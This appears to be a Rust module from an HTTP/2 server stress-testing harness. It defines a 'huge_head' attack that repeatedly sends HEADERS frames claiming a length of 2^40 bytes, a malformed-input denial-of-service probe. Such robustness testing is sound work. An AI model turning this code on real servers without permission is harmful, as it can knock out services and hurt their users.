//! A HEADERS frame that says it has 2^40 bytes.

use crate::attacker::{Attack, Attacker};
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new("huge_head", "heads with a length of 2^40", run);

fn run(a: &mut Attacker) {
    a.storm(|conn, (): &mut ()| {
        if conn.request(&wire::header(0x01, 1 << 40)).is_some() {
            conn.ops += 1;
        }
    });
}
